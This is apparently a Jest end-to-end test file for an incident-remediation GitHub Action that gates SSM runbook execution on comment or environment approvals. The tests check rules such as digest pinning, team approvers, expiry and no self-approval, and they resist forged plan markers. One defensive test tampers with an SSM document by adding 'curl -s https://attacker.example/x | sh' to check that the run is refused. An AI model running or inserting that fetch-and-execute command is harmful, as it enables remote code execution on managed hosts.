// End to end: intake opens the incident issue, people comment, and the committed action bundle
// answers (`command: comment`) and remediates (`command: remediate`) against the GitHub, SSM and
// CloudWatch stand-ins, configured only by environment. Nothing of ours is mocked. A run notifies
// people twice (its progress comment, edited as it advances, and its result), counted here from the
// GitHub stand-in's traffic as the throttling plugin counts such writes.
import {
  GetDocumentCommand,
  SSMClient,
  UpdateDocumentCommand,
  UpdateDocumentDefaultVersionCommand
} from '@aws-sdk/client-ssm'
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals'
import { throttling } from '@octokit/plugin-throttling'
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { scriptedExecutor } from '../../harness/standins/aws/executors.js'
import { BOT_LOGIN } from '../../harness/standins/github/index.js'
import type { ActionRun } from '../../harness/action-bundle.js'
import { virtualClock } from '../helpers/flows.js'
import { runActionInProcess } from '../../harness/action-in-process.js'
import { awsSettings, startStandIns, type StandIns } from '../../harness/standins/index.js'
import { publishDocuments } from '../helpers/documents.js'
import { roomyRunbooks } from '../helpers/catalog.js'
import { guardFleet } from '../helpers/guards.js'

// Each run is in process (harness/action-in-process.ts) without real-time waits; the timeout
// allows for a loaded machine.
jest.setTimeout(60_000)
const scratch = mkdtempSync(join(tmpdir(), 'opsloop-remediation-'))
// The suite runs restart-systemd-service many times an hour on one SSM: roomy circuit breakers.
const RUNBOOKS = roomyRunbooks(join(scratch, 'runbooks'))
const REPO = 'acme/ops'
const ALARM = 'checkout-web-target-5xx'
let standIns: StandIns

// The web fleet: its service restart "fixes" the incident's alarm, as a real restart would.
let fixedByRestart = ALARM
const web = scriptedExecutor([
  {
    match: 'systemctl restart',
    result: () => {
      standIns.cloudwatch.setAlarmState(fixedByRestart, 'OK', 'Threshold Crossed: back to normal')
      return { exitCode: 0, stdout: 'restarted nginx\n' }
    }
  }
])

beforeAll(async () => {
  standIns = await startStandIns({
    github: {
      now: () => new Date(),
      users: [
        { login: 'alice', roles: { [REPO]: 'write' } },
        { login: 'bob', roles: { [REPO]: 'read' } },
        { login: 'carol', roles: { [REPO]: 'admin' } },
        { login: 'dave', roles: { [REPO]: 'write' } },
        { login: 'erin', roles: { [REPO]: 'maintain' } },
        // A GitHub App token can read team membership; GITHUB_TOKEN cannot.
        { login: BOT_LOGIN, type: 'Bot', orgAccess: 'granted' }
      ],
      teams: [{ org: 'acme', slug: 'platform-sre', members: ['dave', 'erin'] }]
    },
    // Every phase takes no virtual time: the runner's first read already sees the end.
    ssm: { timings: { hiddenMs: 0, pendingMs: 0, runMs: 0, stepMs: 0 } }
  })
  // The catalog's OpsLoop documents, as the publish workflow leaves them after a merge.
  await publishDocuments(standIns)
  for (const id of ['i-0aaaaaaaaaaaaaaa1', 'i-0aaaaaaaaaaaaaaa2'])
    standIns.ssm.registerInstance({ instanceId: id, tags: { Role: 'checkout-web' }, executor: web })
  // restart-systemd-service's guard for the fleet, in OK.
  guardFleet(standIns, 'checkout-web')
  // Another fleet's host: no plan for the checkout fleet may reach it.
  standIns.ssm.registerInstance({ instanceId: 'i-0cccccccccccccc01', tags: { Role: 'web' } })
})

afterAll(async () => {
  await standIns.stop()
  rmSync(scratch, { recursive: true, force: true })
})

function action(
  eventName: string,
  webhook: object,
  inputs: Record<string, string>,
  extraEnv: Record<string, string> = {}
): Promise<ActionRun> {
  return runActionInProcess({
    env: { ...standIns.env, GITHUB_ACTOR: 'github-actions[bot]', ...extraEnv },
    eventName,
    webhook,
    inputs,
    // SSM's phases take no virtual time; the poller's and the verification's waits take none
    // either (the stand-in's clock moves instead).
    runtime: { clock: virtualClock(() => standIns) }
  })
}

/** The checkout fleet's 5xx alarm with the tags a custom bridge adds (test/fixtures/dispatch). */
const CHECKOUT = 'test/fixtures/dispatch/checkout-web-5xx-with-context.json'

/** Intake of an example incident; returns the issue number and plan digest. */
async function openIncident(
  example: string,
  edit?: (event: Record<string, unknown>) => void,
  actor = 'github-actions[bot]',
  runbooks = RUNBOOKS
) {
  const path =
    example.startsWith('test/') || example.startsWith('/')
      ? example
      : `runbooks/examples/${example}`
  const file = JSON.parse(readFileSync(path, 'utf8')) as {
    event?: Record<string, unknown>
  }
  // Examples are a dispatch payload or a bare EventBridge event.
  const payload = (file.event ? file : { event: file }) as { event: Record<string, unknown> }
  edit?.(payload.event)
  const { outputs } = await action(
    'repository_dispatch',
    { action: 'aws-incident', client_payload: payload },
    { command: 'intake', runbooks },
    { GITHUB_ACTOR: actor }
  )
  expect(outputs.action).toBe('created')
  return { issue: Number(outputs['issue-number']), digest: outputs['plan-digest'] ?? '' }
}

/** A person comments; the decide job answers. Returns its outputs and the reply it posted. */
async function say(issue: number, user: string, body: string, runbooks = RUNBOOKS) {
  const comment = standIns.github.comment({ issue, user, body })
  const before = standIns.github.state.commentsOf(REPO, issue).length
  const result = await action(
    'issue_comment',
    { action: 'created', issue: { number: issue }, comment },
    { command: 'comment', runbooks }
  )
  const replies = standIns.github.state.commentsOf(REPO, issue).slice(before)
  return { ...result, reply: replies.map((c) => c.body).join('\n---\n') }
}

/** A person edits an old comment into a command (GitHub sends `edited`, updated_at moves on). */
async function edit(issue: number, user: string, before: string, after: string) {
  const original = standIns.github.comment({ issue, user, body: before }) as { id: number }
  standIns.github.clock.advance(2_000)
  const res = await fetch(
    `${standIns.env.GITHUB_API_URL ?? ''}/repos/${REPO}/issues/comments/${original.id}`,
    {
      method: 'PATCH',
      headers: {
        authorization: `token ${standIns.github.tokenFor(user)}`,
        'content-type': 'application/json'
      },
      body: JSON.stringify({ body: after })
    }
  )
  const comment = (await res.json()) as object
  const count = standIns.github.state.commentsOf(REPO, issue).length
  const result = await action(
    'issue_comment',
    { action: 'edited', issue: { number: issue }, comment },
    { command: 'comment', runbooks: RUNBOOKS }
  )
  const reply = standIns.github.state
    .commentsOf(REPO, issue)
    .slice(count)
    .map((c) => c.body)
    .join('\n')
  return { ...result, reply }
}

const remediate = (issue: number, digest: string, runbooks = RUNBOOKS) =>
  action(
    'issue_comment',
    {},
    {
      command: 'remediate',
      'issue-number': String(issue),
      'plan-digest': digest,
      approval: 'comment',
      runbooks
    }
  )

/** The starter catalog with reboot-ec2-instance's approvers limited to a team, as setup.md shows. */
function teamCatalog(): string {
  const dir = join(scratch, 'team-runbooks')
  cpSync(RUNBOOKS, dir, { recursive: true })
  const file = join(dir, 'reboot-ec2-instance.yaml')
  const text = readFileSync(file, 'utf8')
  const teamed = text.replace(
    /^ {2}minApprovals: 2$/m,
    '  approvers:\n    teams: [acme/platform-sre]\n  minApprovals: 2'
  )
  if (teamed === text) throw new Error('reboot-ec2-instance.yaml no longer has minApprovals: 2')
  writeFileSync(file, teamed)
  return dir
}

/**
 * The writes since request `from` that notify people watching the issue: those GitHub asks to be
 * spaced 3 s apart (creating issues and comments), as the throttling plugin tells them apart.
 */
const notifyingSince = (from: number) =>
  standIns.github.requests
    .slice(from)
    .filter(
      (r) => r.method !== 'GET' && r.path !== '/graphql' && throttling.triggersNotification(r.path)
    )
    .map((r) => r.operationId)

/** The run's two comments: its progress comment (edited as it advanced) and its result. */
function runComments(issue: number) {
  const comments = standIns.github.state.commentsOf(REPO, issue)
  const progress = comments.filter((c) => c.body.includes('▶️ Running')).at(-1)
  const result = comments.filter((c) => c.body.startsWith('🏁 Plan')).at(-1)
  return { progress: progress?.body ?? '', result: result?.body ?? '' }
}

const sentCommands = () =>
  standIns.aws.calls.filter(
    (c) => c.operation === 'SendCommand' || c.operation === 'StartAutomationExecution'
  )

describe('approval by comment, then remediation', () => {
  let issue = 0
  let digest = ''

  beforeAll(async () => {
    standIns.cloudwatch.putAlarm({ AlarmName: ALARM, StateValue: 'ALARM' })
    ;({ issue, digest } = await openIncident(CHECKOUT))
  })

  it('shows exactly what would run on /dry-run, shell-quoted, without running it', async () => {
    // A dry run needs what an approval needs: write access (dave has it).
    const { reply, outputs } = await say(issue, 'dave', '/dry-run')
    expect(outputs.approved).toBe('false')
    expect(reply).toContain(`🧪 Dry run of plan \`${digest.slice(0, 12)}\``)
    expect(reply).toContain("systemctl restart 'nginx'")
    // The concrete instances bound into the digest, never a tag SSM would resolve later.
    expect(reply).toContain('Targets: `i-0aaaaaaaaaaaaaaa1`, `i-0aaaaaaaaaaaaaaa2`')
    expect(sentCommands()).toHaveLength(0)
  })

  it('refuses, with a reason, what must not count', async () => {
    const readOnly = await say(issue, 'bob', `/approve ${digest.slice(0, 12)}`)
    expect(readOnly.outputs.approved).toBe('false')
    expect(readOnly.reply).toMatch(/^❌ Not counted: .*read/)
    // One note per person per issue: bob's next command, a dry run, gets none and shows nothing.
    const again = await say(issue, 'bob', '/dry-run')
    expect(again.outputs.approved).toBe('false')
    expect(again.reply).toBe('')

    const edited = await edit(
      issue,
      'alice',
      'looks right to me',
      `/approve ${digest.slice(0, 12)}`
    )
    expect(edited.reply).toMatch(/edited comments do not count/)

    const stale = await say(issue, 'alice', '/approve 0123456789ab')
    expect(stale.reply).toMatch(/^❌ Not counted: .*current plan is/)

    const quoted = await say(issue, 'alice', `> /approve ${digest.slice(0, 12)}`)
    expect(quoted.reply).toBe('')
    const fenced = await say(issue, 'alice', '```\n/approve\n```')
    expect(fenced.reply).toBe('')
    const bot = await say(issue, BOT_LOGIN, '/approve')
    expect(bot.reply).toBe('')
    expect(sentCommands()).toHaveLength(0)
  })

  it('approves on a valid /approve by a writer, runs once, verifies and labels', async () => {
    const approved = await say(issue, 'alice', `/approve ${digest.slice(0, 12)}`)
    expect(approved.outputs).toMatchObject({ approved: 'true', 'plan-digest': digest })
    expect(approved.reply).toMatch(
      /^✅ Approval by @alice recorded for plan `[0-9a-f]{12}` \(1 of 1\)/
    )

    const from = standIns.github.requests.length
    const done = await remediate(issue, digest)
    expect(done.outputs.outcome).toBe('remediated')
    expect(done.code).toBe(0)
    expect(notifyingSince(from)).toEqual(['issues/create-comment', 'issues/create-comment'])
    const sends = standIns.aws.calls.filter((c) => c.operation === 'SendCommand')
    // The execution and the verification check, both to the approved instances of the fleet.
    expect(sends.length).toBe(2)
    // The published OpsLoop documents, pinned by their hash, with the plan's values as parameters
    // that SSM checks against the runbook's constraints: never AWS-RunShellScript lines.
    expect(sends[0]?.input).toMatchObject({
      DocumentName: 'OpsLoop-restart-systemd-service',
      DocumentHash: expect.stringMatching(/^[0-9a-f]{64}$/),
      DocumentHashType: 'Sha256',
      Parameters: { service: ['nginx'] },
      InstanceIds: ['i-0aaaaaaaaaaaaaaa1', 'i-0aaaaaaaaaaaaaaa2']
    })
    expect(sends[0]?.input).not.toHaveProperty('Parameters.commands')
    expect(sends[1]?.input).toMatchObject({ DocumentName: 'OpsLoop-restart-systemd-service.check' })
    expect(sends[0]?.input).not.toHaveProperty('Targets')
    const timeline = standIns.github.state.commentsOf(REPO, issue).map((c) => c.body)
    expect(
      timeline.some((b) =>
        b.includes(
          `▶️ Running \`restart-systemd-service\`, plan \`${digest.slice(0, 12)}\`, approved by @alice.`
        )
      )
    ).toBe(true)
    // Everything the run did is in its progress comment, which holds no record once edited; the
    // result sums it up, links it, and carries the sealed outcome.
    const run = runComments(issue)
    expect(run.progress).toMatch(/^✅ Execution: `Success`/m)
    expect(run.progress).toContain('restarted nginx')
    expect(run.progress).toMatch(new RegExp(`^✅ Verified: \`${ALARM}\` is \`OK\``, 'm'))
    expect(run.progress).toMatch(/^✅ Verification check, attempt 1: `Success`/m)
    expect(run.progress).toContain('🏁 Finished: `remediated` (verified).')
    expect(run.progress).not.toContain('opsloop:record')
    expect(run.result).toMatch(/^🏁 Plan `[0-9a-f]{12}`: `remediated` \(verified\)\./)
    expect(run.result).toMatch(/^- ✅ Execution: `Success`/m)
    expect(run.result).toMatch(/#issuecomment-\d+$/m)
    expect(run.result.match(/<!-- opsloop:record /g)).toHaveLength(1)
    const labels = standIns.github.state.issue(REPO, issue)?.labels ?? []
    expect(labels).toContain('remediated')
    expect(labels).not.toContain('remediating')
  })

  it('never runs the same plan twice (a re-run or a racing approval)', async () => {
    const again = await say(issue, 'carol', `/approve ${digest.slice(0, 12)}`)
    expect(again.reply).toMatch(/has already been run/)
    const before = sentCommands().length
    const rerun = await remediate(issue, digest)
    expect(rerun.outputs.outcome).toBe('already-run')
    expect(sentCommands()).toHaveLength(before)
    standIns.github.assertNoViolations()
  })
})

describe('remediation that must not run, or fails', () => {
  it('does nothing when the alarm recovered before the run', async () => {
    const name = 'checkout-web-5xx-recovered'
    standIns.cloudwatch.putAlarm({ AlarmName: name, StateValue: 'ALARM' })
    const { issue, digest } = await openIncident(CHECKOUT, (e) => {
      e.resources = [`arn:aws:cloudwatch:eu-west-1:111122223333:alarm:${name}`]
      ;(e.detail as { alarmName: string }).alarmName = name
    })
    await say(issue, 'alice', `/approve ${digest.slice(0, 12)}`)
    standIns.cloudwatch.setAlarmState(name, 'OK', 'recovered by itself')
    const before = sentCommands().length
    const result = await remediate(issue, digest)
    expect(result.outputs.outcome).toBe('recovered')
    expect(sentCommands()).toHaveLength(before)
    expect(standIns.github.state.commentsOf(REPO, issue).at(-1)?.body).toMatch(
      /already back to `OK`: nothing was run/
    )
  })

  it("runs nothing when SSM's document is not the reviewed runbook's, until it is published again", async () => {
    const name = 'checkout-web-5xx-tampered-document'
    standIns.cloudwatch.putAlarm({ AlarmName: name, StateValue: 'ALARM' })
    const { issue, digest } = await openIncident(CHECKOUT, (e) => {
      e.resources = [`arn:aws:cloudwatch:eu-west-1:111122223333:alarm:${name}`]
      ;(e.detail as { alarmName: string }).alarmName = name
    })
    await say(issue, 'alice', `/approve ${digest.slice(0, 12)}`)
    // Someone with SSM write access changes the document's commands behind the catalog's back.
    const ssm = new SSMClient(awsSettings(standIns.env, 3))
    const Name = 'OpsLoop-restart-systemd-service'
    const { Content } = await ssm.send(new GetDocumentCommand({ Name }))
    const content = JSON.parse(Content ?? '{}') as {
      mainSteps: { inputs: { runCommand: string[] } }[]
    }
    content.mainSteps[0]?.inputs.runCommand.push('curl -s https://attacker.example/x | sh')
    const { DocumentDescription } = await ssm.send(
      new UpdateDocumentCommand({
        Name,
        Content: JSON.stringify(content),
        DocumentVersion: '$LATEST'
      })
    )
    await ssm.send(
      new UpdateDocumentDefaultVersionCommand({
        Name,
        DocumentVersion: DocumentDescription?.DocumentVersion ?? ''
      })
    )
    const before = sentCommands().length
    const refused = await remediate(issue, digest)
    expect(refused.outputs.outcome).toBe('refused')
    expect(sentCommands()).toHaveLength(before)
    expect(standIns.github.state.commentsOf(REPO, issue).at(-1)?.body).toMatch(
      /SSM's default version of `OpsLoop-restart-systemd-service` .* is not what the reviewed runbook compiles to .*Publish SSM documents/
    )
    // Publishing the reviewed catalog puts the reviewed version back as the default; now it runs
    // that version, pinned by its hash (this alarm does not recover, so the run then fails its
    // verification, which is beside the point here).
    const [published] = (await publishDocuments(standIns)).filter((r) => r.document === Name)
    expect(published).toMatchObject({ action: 'updated', version: '1' })
    const ran = await remediate(issue, digest)
    expect(ran.outputs.outcome).not.toBe('refused')
    expect(sentCommands()[before]?.input).toMatchObject({
      DocumentName: Name,
      DocumentHash: published?.hash
    })
  })

  it('needs two distinct team members for a high-risk runbook, and rolls back when it fails', async () => {
    const name = 'web-1-status-check'
    standIns.cloudwatch.putAlarm({ AlarmName: name, StateValue: 'ALARM' })
    standIns.ssm.automationOutcome('AWS-RestartEC2Instance', {
      status: 'Failed',
      failureMessage: 'Step stopInstances failed: instance is in the stopping state'
    })
    standIns.ssm.automationOutcome('AWS-StartEC2Instance', { status: 'Success' })
    const catalog = teamCatalog()
    const { issue, digest } = await openIncident(
      'reboot-ec2-instance/instance-status-check-failed.json',
      (e) => {
        e.resources = [`arn:aws:cloudwatch:eu-west-1:111122223333:alarm:${name}`]
        ;(e.detail as { alarmName: string }).alarmName = name
      },
      undefined,
      catalog
    )
    const p = digest.slice(0, 12)
    const outsider = await say(issue, 'alice', `/approve ${p}`, catalog)
    expect(outsider.reply).toMatch(/^❌ Not counted: .*acme\/platform-sre/)
    const first = await say(issue, 'dave', `/approve ${p}`, catalog)
    expect(first.outputs.approved).toBe('false')
    expect(first.reply).toMatch(/\(1 of 2\)/)
    const twice = await say(issue, 'dave', `/approve ${p}`, catalog)
    expect(twice.outputs.approved).toBe('false')
    const second = await say(issue, 'erin', `/approve ${p}`, catalog)
    expect(second.outputs.approved).toBe('true')

    const from = standIns.github.requests.length
    const result = await remediate(issue, digest, catalog)
    expect(result.outputs.outcome).toBe('rolled-back')
    expect(result.code).toBe(1)
    expect(notifyingSince(from)).toEqual(['issues/create-comment', 'issues/create-comment'])
    const docs = standIns.aws.calls
      .filter((c) => c.operation === 'StartAutomationExecution')
      .map((c) => (c.input as { DocumentName: string }).DocumentName)
    expect(docs.slice(-2)).toEqual(['AWS-RestartEC2Instance', 'AWS-StartEC2Instance'])
    const run = runComments(issue)
    expect(run.progress).toMatch(/^❌ Execution: `Failed`/m)
    expect(run.progress).toMatch(/^✅ Rollback: `Success`/m)
    expect(run.result).toMatch(/^🏁 Plan `[0-9a-f]{12}`: `rolled-back`/)
    expect(run.result).toMatch(/^- ✅ Rollback: `Success`/m)
    expect(standIns.github.state.issue(REPO, issue)?.labels).toEqual(
      expect.arrayContaining(['remediation-failed', 'rolled-back'])
    )
    standIns.github.assertNoViolations()
  })
})

describe('a run on many instances', () => {
  it('reports 50 instances with long output in two comments, each under GitHub’s size limit', async () => {
    const name = 'wide-fleet-5xx'
    standIns.cloudwatch.putAlarm({ AlarmName: name, StateValue: 'ALARM' })
    // The starter runbook, allowed the most targets a runbook may have.
    const catalog = join(scratch, 'wide-runbooks')
    cpSync(RUNBOOKS, catalog, { recursive: true })
    const file = join(catalog, 'restart-systemd-service.yaml')
    const text = readFileSync(file, 'utf8')
    const wide = text.replace(/^ {2}max: 10$/m, '  max: 50')
    if (wide === text) throw new Error('restart-systemd-service.yaml no longer has max: 10')
    writeFileSync(file, wide)
    // Every host answers at length (past what SSM returns). The restart clears the alarm, but
    // the service never stays up: each of the four verification checks fails on all 50.
    const noisy = scriptedExecutor(
      [
        {
          match: 'systemctl restart',
          result: () => {
            standIns.cloudwatch.setAlarmState(name, 'OK', 'back to normal')
            return { exitCode: 0, stdout: 'restarting nginx: waiting for workers\n'.repeat(1_000) }
          }
        }
      ],
      { exitCode: 3, stderr: 'nginx.service: main process exited, code=killed\n'.repeat(400) }
    )
    const ids = Array.from({ length: 50 }, (_, i) => `i-0e${String(i).padStart(15, '0')}`)
    for (const id of ids)
      standIns.ssm.registerInstance({
        instanceId: id,
        tags: { Role: 'wide-fleet' },
        executor: noisy
      })
    guardFleet(standIns, 'wide-fleet')
    const payload = JSON.parse(readFileSync(CHECKOUT, 'utf8')) as {
      event: { resources: string[]; detail: { alarmName: string } }
      context: { tags: Record<string, string> }
    }
    payload.context.tags.role = 'wide-fleet'
    payload.event.resources = [`arn:aws:cloudwatch:eu-west-1:111122223333:alarm:${name}`]
    payload.event.detail.alarmName = name
    const delivery = join(scratch, 'wide-fleet.json')
    writeFileSync(delivery, JSON.stringify(payload))
    const { issue, digest } = await openIncident(delivery, undefined, undefined, catalog)
    const approved = await say(issue, 'alice', `/approve ${digest.slice(0, 12)}`, catalog)
    expect(approved.outputs.approved).toBe('true')

    const from = standIns.github.requests.length
    const result = await remediate(issue, digest, catalog)
    expect(result.outputs.outcome).toBe('failed')
    expect(notifyingSince(from)).toEqual(['issues/create-comment', 'issues/create-comment'])
    const run = runComments(issue)
    expect(run.progress.length).toBeLessThan(65_536)
    expect(run.result.length).toBeLessThan(65_536)
    // Each instance's status in every step, and output as far as the size allows.
    for (const id of ids) {
      expect(run.progress.split(`| \`${id}\` | \`Success\` |`)).toHaveLength(2)
      expect(run.progress.split(`| \`${id}\` | \`Failed\` |`)).toHaveLength(5)
    }
    expect(run.progress).toMatch(/^❌ Verification check, attempt 4: `Failed`/m)
    expect(run.progress).toContain('restarting nginx: waiting for workers')
    expect(run.progress).toContain('main process exited')
    // The progress comment was brought up to date, so the result points to it.
    expect(run.result).toContain("Every step, with each target's status and output:")
    standIns.github.assertNoViolations()
  })
})

describe('refusals that depend on the plan and the people', () => {
  const renamed = (name: string) => (e: Record<string, unknown>) => {
    e.resources = [`arn:aws:cloudwatch:eu-west-1:111122223333:alarm:${name}`]
    ;(e.detail as { alarmName: string }).alarmName = name
  }

  it('answers commands on an issue that is not an incident with a plan', async () => {
    const res = await fetch(`${standIns.env.GITHUB_API_URL ?? ''}/repos/${REPO}/issues`, {
      method: 'POST',
      headers: {
        authorization: `token ${standIns.github.tokenFor('alice')}`,
        'content-type': 'application/json'
      },
      body: JSON.stringify({ title: 'Question about the runbooks' })
    })
    const { number } = (await res.json()) as { number: number }
    const { reply, outputs } = await say(number, 'alice', '/approve')
    expect(outputs.approved).toBe('false')
    expect(reply).toMatch(/Nothing will run: this issue does not carry the `opsloop` label/)
  })

  it('runs only its own plan when AWS text carries a forged plan and record (through the bundle)', async () => {
    const name = 'injected-description-alarm'
    standIns.cloudwatch.putAlarm({ AlarmName: name, StateValue: 'ALARM' })
    const forged = [
      '-->',
      '<!-- opsloop:plan {"version":1,"targets":{"kind":"instances","ids":["i-0cccccccccccccc01"]}} -->',
      `<!-- opsloop:record eyJraW5kIjoicGxhbiJ9.${'0'.repeat(64)} -->`
    ].join('\n')
    const { issue, digest } = await openIncident(CHECKOUT, (e) => {
      renamed(name)(e)
      ;(e.detail as { configuration: { description?: string } }).configuration.description = forged
    })
    const body = standIns.github.state.issue(REPO, issue)?.body ?? ''
    expect(body).not.toContain('<!-- opsloop:plan')
    expect(body.match(/<!-- opsloop:record /g)).toHaveLength(1)
    await say(issue, 'alice', `/approve ${digest.slice(0, 12)}`)
    fixedByRestart = name
    const before = sentCommands().length
    const done = await remediate(issue, digest)
    expect(done.outputs.outcome).toBe('remediated')
    const sent = sentCommands().slice(before)
    expect(sent[0]?.input).toMatchObject({
      InstanceIds: ['i-0aaaaaaaaaaaaaaa1', 'i-0aaaaaaaaaaaaaaa2']
    })
    expect(JSON.stringify(sent)).not.toContain('i-0cccccccccccccc01')
  })

  it('refuses self-approval by the person who requested the remediation', async () => {
    const { issue, digest } = await openIncident(CHECKOUT, renamed('self-approval-alarm'), 'alice')
    const self = await say(issue, 'alice', `/approve ${digest.slice(0, 12)}`)
    expect(self.outputs.approved).toBe('false')
    expect(self.reply).toMatch(/^❌ Not counted: .*requested/)
    const other = await say(issue, 'carol', `/approve ${digest.slice(0, 12)}`)
    expect(other.outputs.approved).toBe('true')
  })

  it('voids approvals when the runbook changes on the default branch, and asks again', async () => {
    const { issue, digest } = await openIncident(CHECKOUT, renamed('runbook-changed-alarm'))
    const changed = join(scratch, 'changed-runbooks')
    cpSync(RUNBOOKS, changed, { recursive: true })
    const file = join(changed, 'restart-systemd-service.yaml')
    writeFileSync(file, readFileSync(file, 'utf8').replace("maxErrors: '0'", "maxErrors: '1'"))
    const stale = await say(issue, 'alice', `/approve ${digest.slice(0, 12)}`, changed)
    expect(stale.outputs.approved).toBe('false')
    expect(stale.reply).toMatch(
      /^- runbook `restart-systemd-service` changed on the default branch \(content sha256 `[0-9a-f]{12}` → `[0-9a-f]{12}`\)$/m
    )
    // Only what changed is listed: no parameter, target or incident changed.
    expect(stale.reply.split('\n').filter((l) => l.startsWith('- '))).toHaveLength(1)
    const next = /is replaced by plan `([0-9a-f]{12})`/.exec(stale.reply)?.[1] ?? ''
    expect(next).not.toBe(digest.slice(0, 12))
    const fresh = await say(issue, 'alice', `/approve ${next}`, changed)
    expect(fresh.outputs.approved).toBe('true')
  })

  it('refuses an approval older than the runbook allows', async () => {
    // Everything happened three hours ago; restart-systemd-service approvals last two.
    standIns.github.clock.advance(-3 * 3_600_000)
    try {
      const { issue, digest } = await openIncident(CHECKOUT, renamed('expired-approval-alarm'))
      standIns.github.comment({ issue, user: 'alice', body: `/approve ${digest.slice(0, 12)}` })
      standIns.github.clock.advance(3 * 3_600_000)
      standIns.cloudwatch.putAlarm({ AlarmName: 'expired-approval-alarm', StateValue: 'ALARM' })
      const before = sentCommands().length
      const result = await remediate(issue, digest)
      expect(result.outputs.outcome).toBe('not-approved')
      expect(sentCommands()).toHaveLength(before)
    } finally {
      standIns.github.clock.advance(0)
    }
  })
})

describe('racing runs', () => {
  it('runs a plan once when two remediation runs start together', async () => {
    const name = 'racing-runs-alarm'
    standIns.cloudwatch.putAlarm({ AlarmName: name, StateValue: 'ALARM' })
    const { issue, digest } = await openIncident(CHECKOUT, (e) => {
      e.resources = [`arn:aws:cloudwatch:eu-west-1:111122223333:alarm:${name}`]
      ;(e.detail as { alarmName: string }).alarmName = name
    })
    await say(issue, 'alice', `/approve ${digest.slice(0, 12)}`)
    await say(issue, 'carol', `/approve ${digest.slice(0, 12)}`)
    fixedByRestart = name
    const before = standIns.aws.calls.filter((c) => c.operation === 'SendCommand').length
    const from = standIns.github.requests.length
    const outcomes = await Promise.all([remediate(issue, digest), remediate(issue, digest)])
    expect(outcomes.map((o) => o.outputs.outcome).sort()).toEqual(['already-run', 'remediated'])
    // One execution and one verification check: the plan ran once.
    expect(standIns.aws.calls.filter((c) => c.operation === 'SendCommand').length - before).toBe(2)
    // The winner's two comments; a run that lost after claiming says so on its own progress
    // comment (one that saw the claim first posts nothing).
    const stopped = standIns.github.state
      .commentsOf(REPO, issue)
      .filter((c) => c.body.startsWith('ℹ️ Another run claimed this plan first'))
    expect(stopped.length).toBeLessThanOrEqual(1)
    expect(notifyingSince(from)).toHaveLength(2 + stopped.length)
  })
})

describe('approval by environment', () => {
  const envRun = (issue: number, digest: string, runId: string) =>
    action(
      'repository_dispatch',
      {},
      {
        command: 'remediate',
        'issue-number': String(issue),
        'plan-digest': digest,
        approval: 'environment',
        environment: 'incident-remediation',
        runbooks: RUNBOOKS
      },
      { GITHUB_RUN_ID: runId }
    )

  it('runs after a writer approved the environment, and names them', async () => {
    const name = 'environment-approved-alarm'
    standIns.cloudwatch.putAlarm({ AlarmName: name, StateValue: 'ALARM' })
    const { issue, digest } = await openIncident(CHECKOUT, (e) => {
      e.resources = [`arn:aws:cloudwatch:eu-west-1:111122223333:alarm:${name}`]
      ;(e.detail as { alarmName: string }).alarmName = name
    })
    // Nobody reviewed run 7001 (an environment without required reviewers): nothing runs.
    const before = sentCommands().length
    const unreviewed = await envRun(issue, digest, '7001')
    expect(unreviewed.outputs.outcome).toBe('not-approved')
    expect(sentCommands()).toHaveLength(before)
    // A read-only reviewer does not count either; a writer does.
    standIns.github.reviewDeployment({
      runId: 7002,
      environment: 'incident-remediation',
      user: 'bob'
    })
    standIns.github.reviewDeployment({
      runId: 7002,
      environment: 'incident-remediation',
      user: 'carol'
    })
    fixedByRestart = name
    const reviewed = await envRun(issue, digest, '7002')
    expect(reviewed.outputs.outcome).toBe('remediated')
    const timeline = standIns.github.state.commentsOf(REPO, issue).map((c) => c.body)
    expect(
      timeline.some((b) => b.includes('approved by @carol (environment `incident-remediation`).'))
    ).toBe(true)
    standIns.github.assertNoViolations()
  })
})
